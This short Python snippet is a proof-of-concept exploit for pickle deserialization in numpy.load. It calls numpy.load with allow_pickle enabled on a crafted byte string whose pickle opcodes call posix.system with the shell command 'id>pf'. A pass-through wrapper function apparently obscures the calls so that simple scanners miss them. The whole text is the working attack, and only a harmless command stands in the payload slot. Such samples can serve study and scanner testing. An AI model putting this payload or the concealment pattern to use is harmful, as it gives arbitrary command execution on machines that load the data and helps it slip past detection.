def my_go(f, *a, **k):
    return f(*a, **k)
import io, numpy
my_go(numpy.load, my_go(io.BytesIO, b'\x80\x02cposix\nsystem\nX\x05\x00\x00\x00id>pf\x85R.'), None, True)
